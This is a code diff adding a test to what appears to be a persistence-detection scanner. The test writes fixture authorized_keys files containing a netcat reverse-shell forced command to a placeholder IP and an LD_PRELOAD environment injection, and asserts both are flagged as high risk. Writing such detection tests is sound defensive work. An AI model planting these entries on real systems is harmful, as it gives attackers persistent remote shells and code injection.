@@ -210,3 +210,13 @@ def test_a_symlinked_web_root_and_a_symlinked_page_are_read(tmp_path):
     found = {f.entry.path: f for f in parse_persistence(run_piece(root)).findings}
     assert found[f"{root}/var/www/up.php"].tier is Tier.HIGH
     assert found[f"{root}/var/www/img.php"].tier is Tier.HIGH
+
+
+def test_authorized_keys_option_names_in_any_case(tmp_path):
+    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHDy7cJ3Ju1XfPrRn0fKGwmH4jVzxgh9Q8tmY1mBmdnU k"
+    root = tmp_path / "r"
+    _tree(root, {"root/.ssh/authorized_keys": f'COMMAND="nc -e /bin/sh {IP} 1" {key}\n'})
+    _tree(root, {"root/.ssh/authorized_keys2": f'no-pty,Environment="LD_PRELOAD=/dev/shm/l.so" {key}\n'})
+    found = {f.entry.path: f for f in parse_persistence(run_piece(root)).findings}
+    assert found[f"{root}/root/.ssh/authorized_keys"].tier is Tier.HIGH  # sshd matches names case-insensitively
+    assert found[f"{root}/root/.ssh/authorized_keys2"].tier is Tier.HIGH
